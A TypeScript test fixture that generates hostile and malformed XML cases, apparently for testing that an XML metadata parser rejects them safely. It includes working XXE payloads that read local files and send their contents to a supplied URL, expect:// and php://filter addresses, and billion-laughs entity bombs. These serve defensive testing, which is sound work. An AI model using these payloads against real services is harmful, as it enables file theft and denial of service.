/** Hostile XML, made by code: a name, and the bytes when they are asked for. */
export interface XmlCase {
  readonly name: string;
  readonly make: () => Uint8Array;
}

const text = (value: string): Uint8Array => Buffer.from(value, 'utf8');
const raw = (...parts: readonly (string | readonly number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));

/** The case as the whole document, and inside a plausible metadata request. */
const inside = (content: string): string =>
  `<lcm:SubmitObjectsRequest xmlns:lcm="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0" xmlns:rim="urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0"><rim:RegistryObjectList>${content}</rim:RegistryObjectList></lcm:SubmitObjectsRequest>`;

function laughs(kind: 'general' | 'parameter'): string {
  const mark = kind === 'general' ? '' : '% ';
  const reference = kind === 'general' ? '&' : '%';
  let out = `<!DOCTYPE d [<!ENTITY ${mark}a0 "lol">`;
  for (let level = 1; level <= 12; level += 1) {
    out += `<!ENTITY ${mark}a${String(level)} "${`${reference}a${String(level - 1)};`.repeat(10)}">`;
  }
  return `${out}]>`;
}

/**
 * @param url - Address of a server that counts its visitors. @param file - A file whose content
 * must not be seen.
 */
function doctypes(url: string, file: string): Record<string, string> {
  return {
    'empty doctype': '<!DOCTYPE d>',
    'doctype in lower case': '<!doctype d>',
    'doctype after a comment': '<!-- a --><!DOCTYPE d>',
    'doctype after a processing instruction': '<?a b?><!DOCTYPE d []>',
    'doctype with spaces': '<!DOCTYPE\n\n\td\n[\n]>',
    'billion laughs': laughs('general'),
    'billion laughs by parameters': laughs('parameter'),
    'quadratic blow-up': `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
    'entity that names itself': '<!DOCTYPE d [<!ENTITY a "&a;">]>',
    'external entity, file': `<!DOCTYPE d [<!ENTITY a SYSTEM "file://${file}">]>`,
    'external entity, http': `<!DOCTYPE d [<!ENTITY a SYSTEM "${url}/entity">]>`,
    'external entity, relative': '<!DOCTYPE d [<!ENTITY a SYSTEM "package.json">]>',
    'external entity, public': `<!DOCTYPE d [<!ENTITY a PUBLIC "-//X//EN" "${url}/public">]>`,
    'external subset': `<!DOCTYPE d SYSTEM "${url}/subset.dtd">`,
    'external subset, public': `<!DOCTYPE d PUBLIC "-//X//EN" "${url}/subset.dtd">`,
    'parameter entity that exfiltrates': `<!DOCTYPE d [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % e "<!ENTITY &#37; x SYSTEM '${url}/?%f;'>">%e;%x;]>`,
    'unparsed entity': `<!DOCTYPE d [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "${url}/gif" NDATA n>]>`,
    'attribute default': '<!DOCTYPE d [<!ATTLIST d a CDATA "forged">]>',
    'attribute of type ID': '<!DOCTYPE d [<!ATTLIST d id ID #REQUIRED>]>',
    'element declaration': '<!DOCTYPE d [<!ELEMENT d ANY>]>',
    'conditional section': '<!DOCTYPE d [<![INCLUDE[<!ELEMENT d ANY>]]>]>',
    'two doctypes': '<!DOCTYPE d><!DOCTYPE d>',
    'doctype that never ends': '<!DOCTYPE d [',
    'declaration outside a doctype': '<!ENTITY a "b">',
    'jar address': '<!DOCTYPE d [<!ENTITY a SYSTEM "jar:file:///x!/y">]>',
    'php address': '<!DOCTYPE d [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=x">]>',
    'expect address': '<!DOCTYPE d [<!ENTITY a SYSTEM "expect://id">]>',
    'UNC path': String.raw`<!DOCTYPE d [<!ENTITY a SYSTEM "\\127.0.0.1\x">]>`,
  };
}

/** Not well formed, wherever it stands. */
const malformed: Record<string, string> = {
  'no end tag': '<a>',
  'end tag of another': '<a></b>',
  'crossed tags': '<a><b></a></b>',
  'end tag alone': '</a>',
  'tag that never ends': '<a',
  'tag with nothing': '<>',
  'tag that begins with a space': '< a/>',
  'tag that begins with a digit': '<1a/>',
  'tag with two colons': '<a:b:c xmlns:a="u"/>',
  'attribute without value': '<a b/>',
  'attribute without quotes': '<a b=c/>',
  'attribute twice': '<a b="1" b="2"/>',
  'attribute twice by two prefixes': '<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>',
  'attribute that never ends': '<a b="c/>',
  'less-than in an attribute': '<a b="<"/>',
  'less-than in a tag': '<a <b/>',
  'ampersand alone': '<a>&</a>',
  'ampersand at the end of an attribute': '<a b="x&"/>',
  'unknown entity': '<a>&foo;</a>',
  'entity of HTML': '<a>&nbsp;</a>',
  'entity without semicolon': '<a>&amp</a>',
  'empty reference': '<a>&#;</a>',
  'reference without digits': '<a>&#x;</a>',
  'reference to NUL': '<a>&#0;</a>',
  'reference to NUL in hexadecimal': '<a>&#x0;</a>',
  'reference to a control': '<a>&#x1F;</a>',
  'reference to a surrogate': '<a>&#xD800;</a>',
  'reference to a pair of surrogates': '<a>&#xD83D;&#xDE00;</a>',
  'reference to U+FFFE': '<a>&#xFFFE;</a>',
  'reference past Unicode': '<a>&#x110000;</a>',
  'reference that overflows': '<a>&#99999999999999999999;</a>',
  'control character': '<a>\u0001</a>',
  'NUL character': '<a>\0</a>',
  'escape character': '<a>\u001b[2J</a>',
  'U+FFFF': '<a>\uffff</a>',
  'comment that never ends': '<a><!-- b</a>',
  'comment with two hyphens': '<a><!-- b -- c --></a>',
  'comment that ends in three hyphens': '<a><!-- b ---></a>',
  'CDATA that never ends': '<a><![CDATA[b</a>',
  'CDATA outside': '<a/><![CDATA[b]]>',
  'CDATA in lower case': '<a><![cdata[b]]></a>',
  'end of CDATA in text': '<a>]]></a>',
  'instruction that never ends': '<a><?b</a>',
  'instruction named xml': '<a><?xml version="1.0"?></a>',
  'two roots': '<a/><b/>',
  'text before': 'x<a/>',
  'text after': '<a/>x',
  'undeclared prefix': '<p:a/>',
  'undeclared prefix of an attribute': '<a p:b="c"/>',
  'prefix bound to nothing': '<a xmlns:p=""/>',
  'prefix xmlns declared': '<a xmlns:xmlns="u"/>',
  'prefix xml bound elsewhere': '<a xmlns:xml="u"/>',
  'namespace of xml on another prefix': '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>',
  'namespace of xmlns as default': '<a xmlns="http://www.w3.org/2000/xmlns/"/>',
  'colon alone as a name': '<:/>',
  'name that ends in a colon': '<a:/>',
  'slash inside a tag': '<a/b>',
  'space before the closing slash': '<a / >',
  'end tag with attributes': '<a></a b="c">',
};

const declarations: Record<string, Uint8Array> = {
  empty: raw(),
  'spaces only': text('  \n\t '),
  'byte order mark only': raw([0xef, 0xbb, 0xbf]),
  'declaration only': text('<?xml version="1.0"?>'),
  'comment only': text('<!-- a -->'),
  JSON: text('{"a": 1}'),
  PDF: text('%PDF-1.4\n'),
  zip: raw([0x50, 0x4b, 3, 4, 0, 0]),
  binary: Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 197) & 255)),
  HTML: text('<!DOCTYPE html><html><body><p>a</html>'),
  'UTF-16 LE with mark': raw([0xff, 0xfe], [...Buffer.from('<?xml version="1.0"?><a/>', 'utf16le')]),
  'UTF-16 BE with mark': raw([0xfe, 0xff], [...Buffer.from('<a/>', 'utf16le').swap16()]),
  'UTF-16 LE without mark': Buffer.from('<a/>', 'utf16le'),
  'UTF-32 LE': raw([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]),
  EBCDIC: raw([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40]),
  'UTF-7 declared': text('<?xml version="1.0" encoding="UTF-7"?><a>+ADw-b+AD4-</a>'),
  'ISO-8859-1 declared': text('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'),
  'ISO-8859-1 with its byte': raw('<?xml version="1.0" encoding="ISO-8859-1"?><a>', [0xe9], '</a>'),
  'windows-1252 declared': text("<?xml version='1.0' encoding='windows-1252'?><a/>"),
  'UTF-16 declared, UTF-8 sent': text('<?xml version="1.0" encoding="UTF-16"?><a/>'),
  'unknown encoding': text('<?xml version="1.0" encoding="x-mac-roman"?><a/>'),
  'Latin-1 byte without declaration': raw('<a>', [0xe9], '</a>'),
  'overlong slash': raw('<a>', [0xc0, 0xaf], '</a>'),
  'overlong less-than': raw('<a>', [0xc0, 0xbc], 'b/></a>'),
  'overlong NUL': raw('<a>', [0xc0, 0x80], '</a>'),
  'surrogate in UTF-8': raw('<a>', [0xed, 0xa0, 0x80], '</a>'),
  'past Unicode in UTF-8': raw('<a>', [0xf4, 0x90, 0x80, 0x80], '</a>'),
  'sequence cut off': raw('<a>', [0xe2, 0x82], '</a>'),
  'continuation alone': raw('<a>', [0x80], '</a>'),
  'sequence cut by the end': raw('<a/>', [0xe2]),
  'two byte order marks': raw([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], '<a/>'),
  'text before the declaration': text(' <?xml version="1.0"?><a/>'),
  'two declarations': text('<?xml version="1.0"?><?xml version="1.0"?><a/>'),
};

const repeat = (piece: string, count: number): string => piece.repeat(count);

/** Above the limits of depth, number or length. */
const sizes: Record<string, () => string> = {
  'a depth of 121': () => `${repeat('<a>', 121)}${repeat('</a>', 121)}`,
  'a depth of 100,000': () => `${repeat('<a>', 100_000)}${repeat('</a>', 100_000)}`,
  'a depth of 1,000,000, never closed': () => repeat('<a>', 1_000_000),
  'a depth in prefixes': () => `${repeat('<p:a xmlns:p="u">', 5000)}${repeat('</p:a>', 5000)}`,
  '65 attributes': () => `<a ${Array.from({ length: 65 }, (_, index) => `b${String(index)}="c"`).join(' ')}/>`,
  '100,000 attributes': () => `<a ${Array.from({ length: 100_000 }, (_, index) => `b${String(index)}=""`).join(' ')}/>`,
  '100,000 namespaces': () =>
    `<a ${Array.from({ length: 100_000 }, (_, index) => `xmlns:b${String(index)}="u"`).join(' ')}/>`,
  '1,000,001 elements': () => `<a>${repeat('<b/>', 1_000_001)}</a>`,
  'end tags only': () => repeat('</a>', 200_000),
  'less-than only': () => repeat('<', 500_000),
  'comments that never end': () => `<a>${repeat('<!--', 200_000)}`,
  'CDATA that never end': () => `<a>${repeat('<![CDATA[', 100_000)}`,
  'instructions that never end': () => `<a>${repeat('<?', 200_000)}`,
  'quotes only': () => `<a b=${repeat('"', 200_001)}`,
  'ampersands only': () => `<a>${repeat('&', 300_000)}</a>`,
  'references only, cut': () => `<a>${repeat('&#', 200_000)}</a>`,
  'a name of a megabyte, never closed': () => `<${repeat('a', 1_000_000)}`,
  'an attribute of two megabytes, never closed': () => `<a b="${repeat('c', 2_000_000)}`,
  'spaces inside a tag, never closed': () => `<a${repeat(' ', 1_000_000)}`,
  'hyphens in a comment': () => `<a><!--${repeat('-', 500_000)}</a>`,
};

/** Wrong as a document only. */
const onlyOutside: ReadonlySet<string> = new Set(['two roots', 'text before', 'text after', 'CDATA outside']);

export function xmlCases(url: string, file: string): XmlCase[] {
  const out: XmlCase[] = [];
  for (const [name, prolog] of Object.entries(doctypes(url, file))) {
    out.push({ name: `${name}, before a document`, make: () => text(`<?xml version="1.0"?>${prolog}<d>&a;</d>`) });
    out.push({ name: `${name}, before metadata`, make: () => text(`${prolog}${inside('&a;')}`) });
  }
  for (const [name, xml] of Object.entries(malformed)) {
    out.push({ name, make: () => text(xml) });
    if (!onlyOutside.has(name)) out.push({ name: `${name}, inside metadata`, make: () => text(inside(xml)) });
  }
  for (const [name, bytes] of Object.entries(declarations)) out.push({ name, make: () => bytes });
  for (const [name, make] of Object.entries(sizes)) {
    out.push({ name, make: () => text(make()) });
    out.push({ name: `${name}, inside metadata`, make: () => text(inside(make())) });
  }
  return out;
}

/**
 * Well-formed inside metadata although they look wrong: read, or refused with a type; never a
 * crash.
 */
export const tolerated: ReadonlySet<string> = new Set([
  'undeclared prefix, inside metadata',
  'undeclared prefix of an attribute, inside metadata',
]);
